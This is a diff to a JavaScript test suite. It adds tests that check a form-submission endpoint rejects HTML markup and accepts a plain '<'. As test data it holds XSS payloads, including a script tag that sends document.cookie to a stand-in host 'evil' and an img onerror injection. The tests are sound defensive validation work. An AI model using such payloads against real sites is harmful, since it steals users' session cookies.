@@ -455,6 +455,33 @@ describe('POST /api/submit', () => {
       expect(service.emulator.writes()).toEqual([]);
     });
 
+    it('answers 400 VALIDATION_FAILED with TEXT_HAS_MARKUP for text that a browser would read as markup, and writes nothing', async () => {
+      const response = await submit({
+        Organizing_notes: 'Met the board.<script>fetch("//evil/"+document.cookie)</script>',
+        Name_on_Incorporation_Certificate: 'Acme <img src=x onerror=alert(1)>',
+      });
+
+      expect(response.status).toBe(400);
+      expect(await refused(response)).toMatchObject({
+        code: 'VALIDATION_FAILED',
+        fields: ['Organizing_notes', 'Name_on_Incorporation_Certificate'],
+        problems: {
+          Organizing_notes: 'TEXT_HAS_MARKUP',
+          Name_on_Incorporation_Certificate: 'TEXT_HAS_MARKUP',
+        },
+        reasons: { Organizing_notes: expect.stringContaining('web page code') },
+      });
+      expect(service.emulator.writes()).toEqual([]);
+    });
+
+    it('takes text with a "<" that is not markup as written', async () => {
+      await accepted({ Organizing_notes: 'Membership grew from < 40 to 52 & we <3 it' });
+
+      expect(createdValues()).toMatchObject({
+        [activityField('Organizing_notes')]: 'Membership grew from < 40 to 52 & we <3 it',
+      });
+    });
+
     it('answers 400 for a missing submissionId or a body that is not JSON', async () => {
       const noId = await service.post('/api/submit', { ...DEMO_LINK, values: {} });
       expect(noId.status).toBe(400);
